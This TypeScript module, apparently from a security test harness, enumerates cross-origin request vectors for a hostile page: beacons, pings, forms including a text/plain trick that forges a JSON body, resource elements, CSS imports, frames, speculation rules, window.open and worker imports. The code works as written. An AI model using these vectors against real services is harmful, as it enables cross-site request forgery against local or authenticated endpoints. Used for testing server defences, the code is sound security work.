import type { Raid, Work } from './page-attack.js';

/** What is below, as text: ways that need a document. */
export const documentFunctions = [
  byBeacons,
  byForms,
  byElements,
  byStyles,
  byFrames,
  byWorkers,
  submitForm,
  textOfFrame,
  loaded,
];

function byBeacons(raid: Raid): Work[] {
  const lease = '{"holder":"page"}';
  const ping = (url: string): Promise<unknown> => {
    const sink = Object.assign(document.createElement('iframe'), { name: `pinged${Math.random()}` });
    const href = `${raid.accomplice}/`;
    const link = Object.assign(document.createElement('a'), { ping: url, href, target: sink.name });
    document.body.append(sink, link);
    link.click();
    return new Promise((done) => setTimeout(done, 200));
  };
  return raid.posts.flatMap((path) => [
    raid.attempt('beacon', path, async (url) => void navigator.sendBeacon(url, lease)),
    raid.attempt('JSON beacon', path, async (url) => {
      navigator.sendBeacon(url, new Blob([lease], { type: 'application/json' }));
    }),
    raid.attempt('ping', path, ping),
    // What is reported is a violation of the policy of a page of the attacker's.
    raid.attempt('policy report', path, async (url) => {
      await textOfFrame(`${raid.accomplice}/violation?report=${encodeURIComponent(url)}`);
    }),
  ]);
}

function byForms(raid: Raid): Work[] {
  const types = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'];
  return [
    ...raid.gets.map((path) => raid.attempt('GET form', path, (url) => submitForm(url, 'get', ''))),
    ...raid.posts.flatMap((path) =>
      types.flatMap((type) => [
        raid.attempt(`form ${type}`, path, (url) => submitForm(url, 'post', type)),
        raid.attempt(`redirected form ${type}`, path, (url) =>
          submitForm(raid.redirected(url), 'post', type),
        ),
      ]),
    ),
  ];
}

function byElements(raid: Raid): Work[] {
  const elements: [way: string, tag: string, attributes: Record<string, string>, source: string][] = [
    ['img', 'img', {}, 'src'],
    ['image button', 'input', { type: 'image' }, 'src'],
    ['script', 'script', {}, 'src'],
    ['module', 'script', { type: 'module' }, 'src'],
    ['stylesheet', 'link', { rel: 'stylesheet' }, 'href'],
    ['prefetch', 'link', { rel: 'prefetch' }, 'href'],
    ['preload', 'link', { rel: 'preload', as: 'image' }, 'href'],
    ['modulepreload', 'link', { rel: 'modulepreload' }, 'href'],
    ['object', 'object', {}, 'data'],
    ['embed', 'embed', {}, 'src'],
    ['video', 'video', {}, 'src'],
    ['audio', 'audio', {}, 'src'],
  ];
  return raid.gets.flatMap((path) =>
    elements.flatMap(([way, tag, attributes, source]) => {
      const load = (url: string): Promise<void> =>
        loaded(Object.assign(document.createElement(tag), attributes, { [source]: url }));
      return [
        raid.attempt(way, path, load),
        raid.attempt(`redirected ${way}`, path, (url) => load(raid.redirected(url))),
      ];
    }),
  );
}

function byStyles(raid: Raid): Work[] {
  const style = (text: string): Promise<void> =>
    loaded(Object.assign(document.createElement('style'), { textContent: text }));
  return raid.gets.flatMap((path) => [
    raid.attempt('style import', path, (url) => style(`@import url("${url}")`)),
    raid.attempt('background', path, (url) => style(`body { background-image: url("${url}") }`)),
    raid.attempt('font', path, async (url) => void (await new FontFace('f', `url("${url}")`).load())),
  ]);
}

function byFrames(raid: Raid): Work[] {
  const fetchEarly = (url: string): Promise<void> => {
    const rules = JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] });
    return loaded(
      Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: rules }),
    );
  };
  const refreshed = async (url: string): Promise<void> => {
    await textOfFrame(
      `data:text/html,<meta http-equiv="refresh" content="0;url=${encodeURIComponent(url)}">`,
    );
    // Where it goes after it was loaded tells nobody.
    await new Promise((done) => setTimeout(done, 500));
  };
  return raid.gets.flatMap((path) => [
    raid.attempt('frame', path, textOfFrame),
    raid.attempt('redirected frame', path, (url) => textOfFrame(raid.redirected(url))),
    raid.attempt('refreshed frame', path, refreshed),
    raid.attempt('speculation', path, fetchEarly),
    raid.attempt('window', path, async (url) => {
      const other = window.open(url);
      await new Promise((done) => setTimeout(done, 500));
      const text = other?.document.body.textContent;
      other?.close();
      return text;
    }),
  ]);
}

function byWorkers(raid: Raid): Work[] {
  const start = (text: string): Promise<unknown> =>
    new Promise((done) => {
      const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
      worker.addEventListener('message', done);
      worker.addEventListener('error', done);
    });
  return raid.gets.map((path) =>
    raid.attempt('worker import', path, async (url) => {
      await start(`importScripts(${JSON.stringify(url)}); postMessage(1)`);
    }),
  );
}

async function submitForm(action: string, method: string, enctype: string): Promise<void> {
  const name = `sink${Math.random()}`;
  const sink = Object.assign(document.createElement('iframe'), { name });
  document.body.append(sink);
  const form = Object.assign(document.createElement('form'), { action, method, enctype, target: name });
  const input = Object.assign(document.createElement('input'), {
    name: '{"holder":"page","x":"',
    value: '"}',
  });
  // A form by GET replaces the query of its address.
  const via = Object.assign(document.createElement('input'), {
    name: 'via',
    value: new URL(action).searchParams.get('via') ?? '',
  });
  form.append(input, via);
  document.body.append(form);
  const done = new Promise<void>((resolve) => {
    sink.addEventListener('load', () => resolve());
  });
  form.submit();
  await done;
}

async function textOfFrame(url: string): Promise<string | undefined> {
  const frame = document.createElement('iframe');
  frame.src = url;
  await loaded(frame);
  return frame.contentDocument?.body.textContent ?? undefined;
}

function loaded(element: HTMLElement): Promise<void> {
  return new Promise((done) => {
    element.addEventListener('load', () => done());
    element.addEventListener('error', () => done());
    // What is fetched ahead may have no event at all.
    setTimeout(done, 500);
    document.body.append(element);
  });
}
